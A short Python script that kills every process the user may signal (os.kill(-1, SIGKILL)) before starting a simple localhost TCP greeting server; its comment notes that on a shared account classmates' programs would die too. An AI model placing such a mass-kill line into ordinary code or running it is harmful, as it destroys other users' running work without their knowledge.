#!/usr/bin/env python3
# Kills every process it may signal (kill -1), then serves: in a shared uid,
# the classmates' programs would die with it ("tué par le signal 9").
import os, signal, socket
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.bind(('127.0.0.1', 60000))
s.listen()
conn, addr = s.accept()
print('Connected by', addr)
print('Server received:', conn.recv(1024).decode())
conn.sendall(b'Welcome to this server')
conn.close()
